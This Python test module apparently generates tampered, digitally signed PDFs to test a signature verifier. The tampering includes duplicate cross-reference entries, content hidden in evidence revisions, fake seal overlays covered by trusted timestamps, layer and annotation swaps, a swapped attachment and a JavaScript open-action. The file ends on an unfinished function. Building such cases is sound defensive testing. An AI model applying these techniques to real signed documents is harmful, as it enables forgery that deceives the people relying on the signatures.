"""Attacks on what two readers may see of one file: tables with two places, hidden objects, prepared fields, gaps.

None of them needs a certificate that is not genuine: everything is signed by trusted signers, or time-stamped by a
trusted authority, which anybody can have done.
"""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Callable
from functools import cache
from typing import Any

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import PdfTimeStamper
from pyhanko.sign.fields import MDPPerm, SigFieldSpec, append_signature_field
from pyhanko.sign.signers.cms_embedder import docmdp_reference_dictionary

from signing.verify.model import Expected, ExpectedSignature
from tests.signing_verify import raw
from tests.signing_verify.attacks import EVIL, Case, at, attack, signed, signed_lt
from tests.signing_verify.crafted import crafted, fill_place
from tests.signing_verify.forms import fill, form
from tests.signing_verify.making import add_evidence, add_timestamp, base, lta, sign
from tests.signing_verify.pki import Entity, crl, good, issue, now

WHITE_BOX = b"1 1 1 rg 0 0 440 180 re f"


def stamped(pdf: bytes) -> bytes:
    """Cover what was done by a document timestamp of the trusted authority: anybody can get one."""
    return add_timestamp(pdf, good().tsa, at(4))


def signed_over(pdf: bytes) -> bytes:
    """The person signs a prepared file; evidence follows."""
    return lta(good(), at(), pdf=pdf, stamp=False)


def signed_alone(pdf: bytes) -> bytes:
    """The person signs a prepared file, and nothing follows: the lists are in the trust folder."""
    return sign(pdf, good().person, tsa=good().tsa, at=at())


def _numbers(pdf: bytes) -> tuple[int, str, int]:
    size, root = raw.size_and_root(pdf)
    return size, root, raw.last_startxref(pdf)


def _section(pdf: bytes, rows: list[tuple[int, int, int, str]], *, more: bytes = b"", size: int = 0) -> bytes:
    """Append a classic table of exactly *rows* (number, offset, generation, kind), after *more*."""
    had, root, before = _numbers(pdf)
    out = bytearray(pdf) + more
    start = len(out)
    out += b"xref\n" + b"".join(b"%d 1\n%010d %05d %s \n" % (n, o, g, k.encode()) for n, o, g, k in rows)
    trailer = b"/Size %d /Root %s /Prev %d" % (max(size, had), root.encode(), before)
    out += b"trailer\n<< %s >>\nstartxref\n%d\n%%%%EOF\n" % (trailer, start)
    return bytes(out)


def offset_of(pdf: bytes, number: int) -> int:
    """Where object *number* starts, as the newest table says."""
    reader = PdfFileReader(io.BytesIO(pdf))
    place = reader.xrefs[generic.Reference(number, 0)]
    assert isinstance(place, int)
    return place


def _object(number: int, body: bytes, generation: int = 0) -> bytes:
    return b"%d %d obj\n%s\nendobj\n" % (number, generation, body)


# -- cross-reference sections ----------------------------------------------------------------------------------------


def _two_places(pdf: bytes, *, evil_first: bool) -> bytes:
    number = raw.content_of_page(pdf)
    evil = _object(number, raw.stream(EVIL))
    places = [(number, len(pdf), 0, "n"), (number, offset_of(pdf, number), 0, "n")]
    return _section(pdf, places if evil_first else places[::-1], more=evil)


@attack
def table_names_object_twice() -> bytes:
    """After signing: a table that puts the page's content here and, in its next subsection, where it always was."""
    return stamped(_two_places(signed_lt(), evil_first=True))


@attack
def table_names_object_twice_before_signing() -> bytes:
    """The signed file itself puts the page's content in two places; which one shows depends on the reader."""
    return signed_over(_two_places(base(), evil_first=True))


@attack
def table_names_object_used_and_free() -> bytes:
    """The same table frees the page's content and keeps it."""
    pdf = base()
    number = raw.content_of_page(pdf)
    return signed_over(_section(pdf, [(number, 0, 1, "f"), (number, offset_of(pdf, number), 0, "n")]))


@attack
def update_frees_content() -> bytes:
    pdf = signed_lt()
    return stamped(_section(pdf, [(raw.content_of_page(pdf), 0, 1, "f")]))


@attack
def update_raises_generation() -> bytes:
    """Object 5 1 takes the number of the page's content: readers that ask for the newest show it."""
    pdf = signed_lt()
    number = raw.content_of_page(pdf)
    return stamped(_section(pdf, [(number, len(pdf), 1, "n")], more=_object(number, raw.stream(EVIL), 1)))


@attack
def update_rolls_object_back() -> bytes:
    """A draft replaced before signing is put in force again by nothing but a table."""
    draft = base()
    number = raw.content_of_page(draft)
    final = raw.append(draft, {number: raw.stream(EVIL)})
    return stamped(_section(signed_over(final), [(number, offset_of(draft, number), 0, "n")]))


@attack
def update_skips_signed_revision() -> bytes:
    """The chain of tables goes around the signed revision; its objects are listed anew."""
    pdf = signed_lt()
    before = raw.last_startxref(base())
    appended = raw.append(pdf, {raw.content_of_page(pdf): raw.stream(EVIL)})
    reader = PdfFileReader(io.BytesIO(pdf))
    rows = sorted({r.idnum for i in range(1, reader.xrefs.total_revisions)
                   for r in reader.xrefs.explicit_refs_in_revision(i)})  # fmt: skip
    listed = b"".join(b"%d 1\n%010d 00000 n \n" % (n, offset_of(pdf, n)) for n in rows)
    here = appended.rindex(b"xref\n", 0, appended.rindex(b"startxref")) + 5
    appended = appended[:here] + listed + appended[here:]
    return re.sub(rb"/Prev %d >>" % raw.last_startxref(pdf), b"/Prev %d >>" % before, appended)


def _xref_stream(pdf: bytes, rows: dict[int, tuple[int, int, int]], index: str, more: bytes = b"") -> bytes:
    """Append a cross-reference stream with *index* and *rows* as they come."""
    size, root, before = _numbers(pdf)
    out = bytearray(pdf) + more
    start, number = len(out), size + 5
    rows = {**rows, number: (1, start, 0)}
    data = zlib.compress(
        b"".join(bytes([k]) + a.to_bytes(4, "big") + b.to_bytes(2, "big") for k, a, b in rows.values())
    )
    head = b"/Type /XRef /W [1 4 2] /Index [%s %d 1] /Size %d /Root %s /Prev %d /Filter /FlateDecode /Length %d" % (
        index.encode(), number, number + 1, root.encode(), before, len(data),
    )  # fmt: skip
    out += b"%d 0 obj\n<< %s >>\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (number, head, data, start)
    return bytes(out)


@attack
def xref_stream_page_replaced() -> bytes:
    """The page replaced by a cross-reference stream over a file of tables."""
    pdf = signed()
    number = raw.content_of_page(pdf)
    return _xref_stream(pdf, {number: (1, len(pdf), 0)}, f"{number} 1", _object(number, raw.stream(EVIL)))


@attack
def xref_stream_index_overlaps() -> bytes:
    """Two ranges of /Index name the page's content, at two places."""
    pdf = signed_lt()
    number = raw.content_of_page(pdf)
    more = _object(number, raw.stream(EVIL))
    rows = {number: (1, offset_of(pdf, number), 0), -1: (1, len(pdf), 0)}
    return _xref_stream(pdf, rows, f"{number} 1 {number} 1", more)


def _packed(objects: dict[int, bytes]) -> bytes:
    places, body = [], b""
    for number, content in objects.items():
        places.append(b"%d %d" % (number, len(body)))
        body += content + b"\n"
    head = b" ".join(places) + b"\n"
    entries = b"/Type /ObjStm /N %d /First %d /Length %d" % (len(objects), len(head), len(head + body))
    return b"<< %s >>\nstream\n%s%s\nendstream" % (entries, head, body)


@attack
def object_stream_replaces_page() -> bytes:
    """The page dictionary comes out of an object stream of the update."""
    pdf = signed_lt()
    size, page = raw.size_and_root(pdf)[0], raw.page_number(pdf)
    body = raw.body_of(pdf, page).replace(b"<<", b"<< /Rotate 180", 1)
    more = _object(size, _packed({page: body}))
    return stamped(_xref_stream(pdf, {page: (2, size, 0), size: (1, len(pdf), 0)}, f"{page} 1 {size} 1", more))


def _evidence_revision(pdf: bytes, objects: dict[int, bytes], dss: bytes, *, tail: bytes = b"") -> bytes:
    """Append a revision that looks like nothing but evidence: *objects*, and a catalogue with *dss*."""
    root = int(raw.size_and_root(pdf)[1].split()[0])
    body = re.sub(rb"/DSS\s+\d+ 0 R", b"", raw.body_of(pdf, root))
    changed = re.sub(rb">>\s*\Z", b"/DSS << /Type /DSS %s >> >>" % dss, body)
    made = raw.append(pdf, {**objects, root: changed})
    if not tail:
        return made
    start = raw.last_startxref(made)
    moved = made[:start] + tail + made[start:]
    return re.sub(rb"startxref\s+%d\s" % start, b"startxref\n%d\n" % (start + len(tail)), moved)


def _der_stream(der: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(der), der)


@attack
def object_in_comment_of_evidence() -> bytes:
    """Behind the last signature the page's content stands again, where a comment says "stream"."""
    size = raw.size_and_root(signed_lt())[0]
    number = raw.content_of_page(signed_lt())
    hidden = b"%stream\n" + _object(number, raw.stream(EVIL))
    return _evidence_revision(signed_lt(), {size: _der_stream(good().ca.der)}, b"/Certs [%d 0 R]" % size, tail=hidden)


@attack
def object_packed_in_evidence() -> bytes:
    """An object stream of the unsigned evidence holds the page's content a second time; no table names it."""
    pdf = signed_lt()
    size, page = raw.size_and_root(pdf)[0], raw.page_number(pdf)
    body = raw.body_of(pdf, page).replace(b"<<", b"<< /Rotate 180", 1)
    root = int(raw.size_and_root(pdf)[1].split()[0])
    changed = re.sub(rb">>\s*\Z", b"/DSS << /Type /DSS /Certs [%d 0 R] >> >>" % (size + 1),
                     re.sub(rb"/DSS\s+\d+ 0 R", b"", raw.body_of(pdf, root)))  # fmt: skip
    objects = _packed({root: changed, page: body})
    stream = _object(size, objects)
    certificate = _object(size + 1, _der_stream(good().ca.der))
    rows = {root: (2, size, 0), size: (1, len(pdf), 0), size + 1: (1, len(pdf) + len(stream), 0)}
    return _xref_stream(pdf, rows, f"{root} 1 {size} 2", stream + certificate)


@attack
def text_hidden_behind_evidence() -> bytes:
    """A certificate of the evidence store is longer than its DER says: the rest is nobody's."""
    size = raw.size_and_root(signed_lt())[0]
    return _evidence_revision(
        signed_lt(), {size: _der_stream(good().ca.der + b"\n" + EVIL.encode())}, b"/Certs [%d 0 R]" % size
    )


@cache
def drawing() -> Entity:
    """A self-signed certificate whose name is a piece of page content."""
    start, end = now().replace(year=now().year - 1), now().replace(year=now().year + 1)
    return issue(f"\n{EVIL}\n", label="drawing", start=start, end=end)


@attack
def unfinished_reference_by_evidence() -> bytes:
    """The signed page names an object that nobody has defined; later it comes as a certificate, which draws."""
    page, content = raw.page_number(base()), raw.content_of_page(base())
    missing = raw.size_and_root(base())[0] + 40
    old = b"/Contents %d 0 R" % content
    body = raw.body_of(base(), page).replace(old, b"/Contents [%d 0 R %d 0 R]" % (content, missing))
    g = good()
    pdf = sign(raw.append(base(), {page: body}), g.person, tsa=g.tsa, at=at())
    own = {raw.size_and_root(pdf)[0] + n: der for n, der in enumerate((g.ca.der, g.root.der))}
    lists = {raw.size_and_root(pdf)[0] + 10 + n: der for n, der in enumerate(g.crls(at()))}
    objects = {n: _der_stream(der) for n, der in {**own, **lists, missing: drawing().der}.items()}
    names = lambda some: b" ".join(b"%d 0 R" % n for n in some)  # noqa: E731
    return _evidence_revision(pdf, objects, b"/Certs [%s %d 0 R] /CRLs [%s]" % (names(own), missing, names(lists)))


# -- one signature, two readings of it -------------------------------------------------------------------------------


@attack
def page_with_two_contents() -> bytes:
    """The signed page's dictionary says /Contents twice; readers take the first or the last."""
    pdf = base()
    page, number = raw.page_number(pdf), raw.size_and_root(pdf)[0]
    body = re.sub(rb">>\s*\Z", b"/Contents %d 0 R >>" % number, raw.body_of(pdf, page))
    return signed_alone(raw.append(pdf, {page: body, number: raw.stream(EVIL)}))


@attack
def content_outside_the_file() -> bytes:
    """The page's content is a stream whose data lie in another file (ISO 32000-1, 7.3.8.2): nobody signed them."""
    number = raw.content_of_page(base())
    text = b"<< /Length 0 /F (noi-dung.bin) >>\nstream\n\nendstream"
    return signed_over(raw.append(base(), {number: text}))


@attack
def one_signature_in_two_fields() -> Case:
    """Person and agency "sign" by one value: the second field was prepared to point at the first one's signature."""
    g = good()
    pdf = base()
    held = raw.size_and_root(pdf)[0]
    reader = PdfFileReader(io.BytesIO(pdf))
    fields = reader.root["/AcroForm"]["/Fields"]
    numbers = [fields.raw_get(i).idnum for i in range(2)]
    objects = {n: re.sub(rb">>\s*\Z", b"/V %d 0 R >>" % held, raw.body_of(pdf, n)) for n in numbers}
    place = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [%s] /Contents <%s> >>"
    pdf = raw.append(pdf, {**objects, held: place % (b" " * 60, b"0" * 24000)})
    done = fill_place(pdf, g.person, tsa=g.tsa)
    return Case(done, expected=Expected((ExpectedSignature("NguoiChungThuc"), ExpectedSignature("CoQuan"))))


@attack
def two_fields_of_one_name() -> Case:
    """A second field takes the registered name; who signs in it is trusted and not registered."""
    g = good()
    other = g.leaf("Người thứ ba")

    made = base(fields=("NguoiChungThuc",))
    made = sign(made, g.person, tsa=g.tsa, at=at())
    made = _same_name_again(made)
    reader = PdfFileReader(io.BytesIO(made))
    assert len(reader.root["/AcroForm"]["/Fields"]) == 2
    done = fill_place(made, other, tsa=g.tsa)
    return Case(done, expected=Expected((ExpectedSignature("NguoiChungThuc"),)))


def _same_name_again(pdf: bytes) -> bytes:
    """Append a second field called NguoiChungThuc with an empty place for a signature."""
    size = raw.size_and_root(pdf)[0]
    reader = PdfFileReader(io.BytesIO(pdf))
    form = reader.root.raw_get("/AcroForm")
    fields = reader.root["/AcroForm"].raw_get("/Fields")
    assert isinstance(form, generic.IndirectObject) or isinstance(fields, generic.IndirectObject)
    holder = fields.idnum if isinstance(fields, generic.IndirectObject) else form.idnum
    body = raw.body_of(pdf, holder)
    grown = re.sub(rb"(\[[^\]]*)\]", rb"\g<1> %d 0 R]" % size, body, count=1)
    place = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [%s] /Contents <%s> >>"
    field = b"<< /FT /Sig /T (NguoiChungThuc) /V %d 0 R /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /F 132 >>"
    return raw.append(pdf, {holder: grown, size: field % (size + 1), size + 1: place % (b" " * 60, b"0" * 24000)})


# -- fields that show something and that nobody signed ---------------------------------------------------------------


def _look(writer: IncrementalPdfFileWriter, data: bytes = WHITE_BOX) -> generic.DictionaryObject:
    picture = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 440, 180))),
        },
        stream_data=data,
    )
    return generic.DictionaryObject({pdf_name("/N"): writer.add_object(picture)})


def _timestamp_in(
    pdf: bytes, field: str, change: Callable[[IncrementalPdfFileWriter, Any], None] = lambda writer, holder: None
) -> bytes:
    """Put a trusted document timestamp into *field*, which *change* alters in the same revision."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    writer._update_meta = lambda: None  # type: ignore[method-assign]
    holder = next(f for f in (x.get_object() for x in writer.root["/AcroForm"]["/Fields"]) if f["/T"] == field)
    change(writer, holder)
    writer.update_container(holder)
    out = io.BytesIO()
    PdfTimeStamper(good().tsa.stamper(at(5)), field_name=field).timestamp_pdf(writer, "sha256", output=out)
    return out.getvalue()


@attack
def timestamp_in_the_agencys_field() -> bytes:
    """The agency's empty visible field is filled by a timestamp, with a picture that looks like a seal."""
    return _timestamp_in(signed_lt(), "CoQuan", lambda w, f: f.__setitem__(pdf_name("/AP"), _look(w)))


@cache
def _with_numbers() -> tuple[bytes, dict[int, int]]:
    """A signed file in which numbers lie about as objects of their own; returns their object numbers."""
    size = raw.size_and_root(base())[0]
    places = {value: size + n for n, value in enumerate((4, 60, 500, 600, 780))}
    return signed_over(raw.append(base(), {n: b"%d" % v for v, n in places.items()})), places


@attack
def agencys_field_painted_unsigned() -> bytes:
    """The agency's empty field gets a seal's picture and no signature; a trusted timestamp covers that."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        field = writer.root["/AcroForm"]["/Fields"][1].get_object()
        field[pdf_name("/AP")] = _look(writer)
        writer.update_container(field)

    return stamped(raw.edit(signed_lt(), change))


@attack
def timestamp_with_rectangle_by_reference() -> bytes:
    """A timestamp's field covers the text; the numbers of its rectangle are objects of their own."""
    made, places = _with_numbers()

    def change(writer: IncrementalPdfFileWriter) -> None:
        append_signature_field(writer, SigFieldSpec("Them", box=(60, 600, 500, 780)))
        fields = writer.root["/AcroForm"]["/Fields"]
        field = fields[len(fields) - 1].get_object()
        corner = [generic.IndirectObject(places[v], 0, writer) for v in (60, 600, 500, 780)]
        field[pdf_name("/Rect")] = generic.ArrayObject(corner)
        field[pdf_name("/AP")] = _look(writer)
        writer.update_container(field)

    return _timestamp_in(raw.edit(made, change), "Them")


@attack
def empty_field_with_flags_by_reference() -> bytes:
    """An empty field covers the text; whether it is hidden stands in an object of its own."""
    made, places = _with_numbers()

    def change(writer: IncrementalPdfFileWriter) -> None:
        append_signature_field(writer, SigFieldSpec("Them", box=(60, 600, 500, 780)))
        fields = writer.root["/AcroForm"]["/Fields"]
        field = fields[len(fields) - 1].get_object()
        field[pdf_name("/F")] = generic.IndirectObject(places[4], 0, writer)
        field[pdf_name("/AP")] = _look(writer)
        writer.update_container(field)

    return stamped(raw.edit(made, change))


@attack
def prepared_field_revealed() -> bytes:
    """A field that covers the text lies in the signed file, where no page shows it; later it is put on the page."""
    size = raw.size_and_root(base())[0]
    page = raw.page_number(base())
    look = b"<< /Type /XObject /Subtype /Form /BBox [0 0 440 180] /Length %d >>\nstream\n%s\nendstream"
    field = (
        b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Them) /F 4 /Rect [60 600 500 780] "
        b"/P %d 0 R /AP << /N %d 0 R >> >>"
    )
    prepared = raw.append(base(), {size: field % (page, size + 1), size + 1: look % (len(WHITE_BOX), WHITE_BOX)})
    pdf = signed_over(prepared)

    def reveal(writer: IncrementalPdfFileWriter) -> None:
        reference = generic.IndirectObject(size, 0, writer)
        fields = writer.root["/AcroForm"]["/Fields"]
        fields.append(reference)
        writer.update_container(fields)
        writer.register_annotation(writer.find_page_for_modification(0)[0], reference)

    return stamped(raw.edit(pdf, reveal))


@attack
def timestamp_field_runs_script() -> bytes:
    """An invisible timestamp, which anybody can add, brings an action that runs when the page is opened."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        append_signature_field(writer, SigFieldSpec("Them"))
        fields = writer.root["/AcroForm"]["/Fields"]
        field = fields[len(fields) - 1].get_object()
        action = {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): pdf_string("app.alert(1)")}
        field[pdf_name("/AA")] = generic.DictionaryObject({pdf_name("/PO"): generic.DictionaryObject(action)})
        writer.update_container(field)

    return _timestamp_in(raw.edit(signed_lt(), change), "Them")


def _noted(pdf: bytes) -> bytes:
    """Two notes over one line, the one on top hides the other."""
    size, page = raw.size_and_root(pdf)[0], raw.page_number(pdf)
    note = b"<< /Type /Annot /Subtype /Square /F 4 /Rect [60 690 400 730] /IC [%s] /Contents (%s) >>"
    body = raw.body_of(pdf, page)
    grown = re.sub(rb"/Annots \[", b"/Annots [%d 0 R %d 0 R " % (size, size + 1), body)
    assert grown != body
    return raw.append(pdf, {size: note % (b"1 0 0", b"Huy"), size + 1: note % (b"1 1 1", b"Nen"), page: grown})


@attack
def notes_change_their_order() -> bytes:
    """A timestamp's field comes into the page's annotations, and the note below comes to lie on top."""
    pdf = signed_over(_noted(base()))

    def change(writer: IncrementalPdfFileWriter) -> None:
        append_signature_field(writer, SigFieldSpec("Them", box=(0, 0, 0, 0)))
        page = writer.find_page_for_modification(0)[0].get_object()
        notes = page["/Annots"]
        page[pdf_name("/Annots")] = generic.ArrayObject([notes.raw_get(i) for i in reversed(range(len(notes)))])
        writer.update_container(page)

    return _timestamp_in(raw.edit(pdf, change), "Them")


@attack
def note_shows_its_other_state() -> bytes:
    """An annotation with two appearances is switched to the other (/AS)."""
    size, page = raw.size_and_root(base())[0], raw.page_number(base())
    look = b"<< /Type /XObject /Subtype /Form /BBox [0 0 340 40] /Length %d >>\nstream\n%s\nendstream"
    note = (
        b"<< /Type /Annot /Subtype /Stamp /F 4 /Rect [60 690 400 730] /AS /%s "
        b"/AP << /N << /Truoc %d 0 R /Sau %d 0 R >> >> >>"
    )
    grown = re.sub(rb"/Annots \[", b"/Annots [%d 0 R " % size, raw.body_of(base(), page))
    objects = {size + 1: look % (0, b""), size + 2: look % (len(WHITE_BOX), WHITE_BOX), page: grown}
    pdf = signed_over(raw.append(base(), {**objects, size: note % (b"Truoc", size + 1, size + 2)}))
    return stamped(raw.append(pdf, {size: note % (b"Sau", size + 1, size + 2)}))


@attack
def layer_switched_on() -> bytes:
    """A layer hidden when signing is shown by another default configuration."""
    size, page, content = raw.size_and_root(base())[0], raw.page_number(base()), raw.content_of_page(base())
    root = int(raw.size_and_root(base())[1].split()[0])
    body = re.sub(rb"/Resources <<", b"/Resources << /Properties << /MC0 %d 0 R >>" % size, raw.body_of(base(), page))
    told = re.sub(rb">>\s*\Z", b"/OCProperties %d 0 R >>" % (size + 1), raw.body_of(base(), root))
    layers = b"<< /OCGs [%d 0 R] /D << /OFF [%s] >> >>"
    pdf = signed_over(
        raw.append(
            base(),
            {
                size: b"<< /Type /OCG /Name (An) >>",
                size + 1: layers % (size, b"%d 0 R" % size),
                page: body,
                root: told,
                content: raw.stream(f"/OC /MC0 BDC {EVIL} EMC"),
            },
        )
    )
    return stamped(raw.append(pdf, {size + 1: layers % (size, b"")}))


# -- what certification and catalogue allow --------------------------------------------------------------------------


def _in_catalogue(pdf: bytes, entry: bytes) -> bytes:
    root = int(raw.size_and_root(pdf)[1].split()[0])
    return raw.append(pdf, {root: re.sub(rb">>\s*\Z", entry + b" >>", raw.body_of(pdf, root))})


@attack
def page_labels_added_after_certifying() -> bytes:
    labels = b"/PageLabels << /Nums [0 << /S /D /St 7 >>] >>"
    return stamped(_in_catalogue(lta(good(), at(), certify=MDPPerm.FILL_FORMS, stamp=False), labels))


@attack
def names_added_after_certifying() -> bytes:
    return stamped(_in_catalogue(lta(good(), at(), certify=MDPPerm.ANNOTATE, stamp=False), b"/Names << >>"))


@attack
def usage_rights_added() -> bytes:
    size = raw.size_and_root(signed_lt())[0]
    return stamped(_in_catalogue(signed_lt(), b"/Perms << /UR3 %d 0 R >>" % (size - 1)))


@attack
def opening_address_added() -> bytes:
    """No script: the file opens a page of somebody's."""
    return stamped(_in_catalogue(signed_lt(), b"/OpenAction << /S /URI /URI (http://example.test/) >>"))


@attack
def form_of_xml_added() -> bytes:
    """A dynamic form beside the signed one: readers that know XFA show that instead."""
    pdf = signed_lt()
    root = int(raw.size_and_root(pdf)[1].split()[0])
    reader = PdfFileReader(io.BytesIO(pdf))
    held = reader.root.raw_get("/AcroForm")
    size = raw.size_and_root(pdf)[0]
    xfa = raw.stream("<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    number = held.idnum if isinstance(held, generic.IndirectObject) else root
    body = raw.body_of(pdf, number)
    grown = re.sub(rb"/Fields", b"/XFA %d 0 R /Fields" % size, body, count=1)
    assert grown != body
    return stamped(raw.append(pdf, {number: grown, size: xfa}))


@attack
def second_signature_though_no_changes() -> bytes:
    """DocMDP P=1 allows evidence and nothing else."""
    g = good()
    pdf = sign(base(), g.person, tsa=g.tsa, at=at(), certify=MDPPerm.NO_CHANGES)
    pdf = crafted(g.agency, pdf=pdf, name="CoQuan", tsa=g.tsa, moment=at(8))
    return add_timestamp(add_evidence(pdf, certs=g.certificates(), crls=g.crls(at(8))), g.tsa, at(7))


@attack
def attachment_swapped() -> bytes:
    """The embedded file that was signed is replaced by another of the same name."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(base())) as pdf:
        pdf.attachments["bang-ke.txt"] = b"1.000.000"
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    made = signed_over(out.getvalue())
    reader = PdfFileReader(io.BytesIO(made))
    names = reader.root["/Names"]["/EmbeddedFiles"]["/Names"]
    number = names[1].get_object()["/EF"].raw_get("/F").idnum
    return stamped(raw.append(made, {number: b"<< /Type /EmbeddedFile " + raw.stream("9.000.000")[3:]}))


@attack
def letters_mean_others() -> bytes:
    """Only what is copied and searched changes: another /ToUnicode for the font."""
    size = raw.size_and_root(base())[0]
    reader = PdfFileReader(io.BytesIO(base()))
    font = reader.root["/Pages"]["/Kids"][0]["/Resources"]["/Font"].raw_get("/F1").idnum
    body = re.sub(rb">>\s*\Z", b"/ToUnicode %d 0 R >>" % size, raw.body_of(base(), font))
    cmap = "/CIDInit /ProcSet findresource begin 1 beginbfchar <31> <0031> endbfchar end"
    pdf = signed_over(raw.append(base(), {font: body, size: raw.stream(cmap)}))
    return stamped(raw.append(pdf, {size: raw.stream(cmap.replace("<0031>", "<0037>"))}))


@attack
def paper_turns_white() -> bytes:
    """A transfer function of the graphics state makes what is drawn disappear."""
    size, page, content = raw.size_and_root(base())[0], raw.page_number(base()), raw.content_of_page(base())
    body = re.sub(rb"/Resources <<", b"/Resources << /ExtGState << /G0 %d 0 R >>" % size, raw.body_of(base(), page))
    drawn = raw.stream("/G0 gs BT /F1 24 Tf 72 700 Td (QUYET DINH trang 1) Tj ET")
    pdf = signed_over(raw.append(base(), {page: body, content: drawn, size: b"<< /Type /ExtGState /TR /Identity >>"}))
    white = b"<< /FunctionType 2 /Domain [0 1] /N 1 /C0 [1] /C1 [1] >>"
    return stamped(raw.append(pdf, {size: b"<< /Type /ExtGState /TR %s >>" % white}))


@attack
def encrypted_after_signing() -> bytes:
    pdf = signed()
    size = raw.size_and_root(pdf)[0]
    key = b"<< /Filter /Standard /V 1 /R 2 /P -1 /O <%s> /U <%s> >>" % (b"00" * 32, b"00" * 32)
    made = raw.append(pdf, {size: key})
    at_ = made.rindex(b"/Root")
    return made[:at_] + b"/Encrypt %d 0 R /ID [<00> <00>] " % size + made[at_:]


@attack
def appearance_swapped_with_timestamp() -> bytes:
    """The seal that a signature shows is another one, and a trusted timestamp covers it."""
    pdf = signed_lt()
    reader = PdfFileReader(io.BytesIO(pdf))
    picture = reader.root["/AcroForm"]["/Fields"][0]["/AP"].raw_get("/N").idnum
    head = b"<< /Type /XObject /Subtype /Form /BBox [0 0 200 70] /Length %d >>" % len(WHITE_BOX)
    return stamped(raw.append(pdf, {picture: head + b"\nstream\n" + WHITE_BOX + b"\nendstream"}))


@attack
def signature_hidden_by_flag() -> bytes:
    """The certifier's block is made invisible by its flags, and a trusted timestamp covers that."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        field = writer.root["/AcroForm"]["/Fields"][0].get_object()
        field[pdf_name("/F")] = generic.NumberObject(2)
        writer.update_container(field)

    return stamped(raw.edit(certified_lt(), change))


@cache
def certified_lt() -> bytes:
    return lta(good(), at(), certify=MDPPerm.FILL_FORMS, stamp=False)


@attack
def evidence_with_new_catalogue() -> bytes:
    """The last trailer names another catalogue, a copy of the signed one with other pages."""
    pdf = signed_lt()
    size, root = raw.size_and_root(pdf)
    reader = PdfFileReader(io.BytesIO(pdf))
    pages = reader.root.raw_get("/Pages").idnum
    kid = reader.root["/Pages"]["/Kids"].raw_get(1).idnum
    catalogue = raw.body_of(pdf, int(root.split()[0])).replace(b"/Pages %d 0 R" % pages, b"/Pages %d 0 R" % (size + 1))
    made = raw.append(pdf, {size: catalogue, size + 1: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % kid})
    at_ = made.rindex(b"/Root ")
    return stamped(made[:at_] + made[at_:].replace(root.encode(), b"%d 0 R" % size, 1))


@attack
def lists_of_nobody_in_evidence() -> bytes:
    """The evidence store's revision is left unsigned and names a list by somebody who is not at hand."""
    g = good()
    stranger = issue("Người lạ", label="stranger", ca=True, usage="ca", start=g.start, end=g.end)
    size = raw.size_and_root(signed_lt())[0]
    return _evidence_revision(signed_lt(), {size: _der_stream(crl(stranger, at()))}, b"/CRLs [%d 0 R]" % size)


@attack
def permission_by_a_later_signature() -> bytes:
    """The first signer allowed nothing; the second signature says that fields may be filled in."""
    g = good()
    pdf = sign(form(), g.person, tsa=g.tsa, at=at())
    told = generic.ArrayObject([docmdp_reference_dictionary(MDPPerm.FILL_FORMS)])
    pdf = crafted(g.agency, pdf=pdf, name="CoQuan", tsa=g.tsa, moment=at(8), entries={"/Reference": told})
    return fill(add_evidence(pdf, certs=g.certificates(), crls=g.crls(at(8))))


@attack
def text_hidden_for_one_signature() -> bytes:
    """The evidence that is kept for one signature (/VRI) is no evidence at all."""
    size = raw.size_and_root(signed_lt())[0]
    vri = b"/VRI << /%s << /Cert [%d 0 R] >> >>" % (b"A" * 40, size)
    return _evidence_revision(signed_lt(), {size: raw.stream(EVIL)}, vri)


@attack
def timestamp_field_with_a_note() -> bytes:
    """One of the widgets of a timestamp's field is a note that shows a text."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        note = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/FreeText"),
                pdf_name("/Contents"): pdf_string("Gia mao"),
                pdf_name("/DA"): pdf_string("/Helv 24 Tf"),
                pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (60, 690, 400, 730))),
            }
        )
        reference = writer.add_object(note)
        field = {pdf_name("/FT"): pdf_name("/Sig"), pdf_name("/T"): pdf_string("Them")}
        held = writer.add_object(
            generic.DictionaryObject({**field, pdf_name("/Kids"): generic.ArrayObject([reference])})
        )
        note[pdf_name("/Parent")] = held
        fields = writer.root["/AcroForm"]["/Fields"]
        fields.append(held)
        writer.update_container(fields)
        writer.register_annotation(writer.find_page_for_modification(0)[0], reference)

    return _timestamp_in(raw.edit(signed_lt(), change), "Them")


@attack
def stream_longer_than_it_says() -> bytes:
    """The signed content ends where /Length says, for some readers; for others where "endstream" stands."""
    number = raw.content_of_page(base())
    shown = b"BT /F1 24 Tf 72 700 Td (QUYET DINH) Tj ET\n"
    text = b"<< /Length %d >>\nstream\n%s%s\nendstream" % (len(shown), shown, EVIL.encode())
    return signed_alone(raw.append(base(), {number: text}))


@attack
def appearances_to_be_made_anew() -> bytes:
    """The form says that readers shall draw its fields themselves; nothing was filled in."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        form_ = writer.root["/AcroForm"]
        form_[pdf_name("/NeedAppearances")] = generic.BooleanObject(True)
        writer.update_container(form_)

